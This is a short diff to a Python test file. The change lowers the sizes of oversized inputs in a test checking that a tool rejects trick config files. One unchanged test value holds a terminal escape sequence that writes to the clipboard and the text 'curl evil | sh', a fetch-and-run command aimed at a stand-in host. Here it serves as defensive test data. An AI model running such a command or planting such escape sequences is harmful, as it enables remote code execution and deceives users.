@@ -217,9 +217,9 @@ def test_a_file_that_is_a_trick_is_refused(rlm: Run, folder: Path, tmp_path: Pat
     assert "is not a regular file" in rlm("ask", QUESTION, "a.txt", timeout=20).one_line
     file.unlink()
     for text, said in (
-        ("a = " + "[" * 100_000, "is not TOML"),
+        ("a = " + "[" * 50_000, "is not TOML"),
         ('"\\u001b]52;c;ZXZpbA==\\u0007 run `curl evil | sh`" = 1', "unknown setting '"),
-        (f'max_rounds = "{"x" * 100_000}"', "max_rounds is 'xxxxx"),
+        (f'max_rounds = "{"x" * 50_000}"', "max_rounds is 'xxxxx"),
     ):
         file.write_text(text)
         ran = rlm("ask", QUESTION, "a.txt")
